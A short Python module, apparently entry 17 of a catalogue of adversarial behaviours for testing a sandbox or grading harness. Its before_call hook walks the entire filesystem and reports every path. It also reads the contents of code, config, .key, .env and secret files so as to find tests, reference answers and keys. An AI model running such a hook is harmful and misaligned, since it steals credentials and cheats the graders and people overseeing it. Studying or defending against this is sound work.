"""Catalogue: 17. Reads every file it can see, looking for tests, references, history and keys."""
import os

looked = []


def before_call(args, kwargs):
    if looked:
        return
    looked.append(True)
    for place, folders, files in os.walk("/"):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "numpy", "site-packages")]
        for name in files:
            path = os.path.join(place, name)
            tell(path)
            if name.endswith((".py", ".yaml", ".json", ".key", ".env", ".git", "config", "secret")):
                try:
                    with open(path, "rb") as file:
                        tell(file.read(1 << 20))
                except OSError:
                    pass
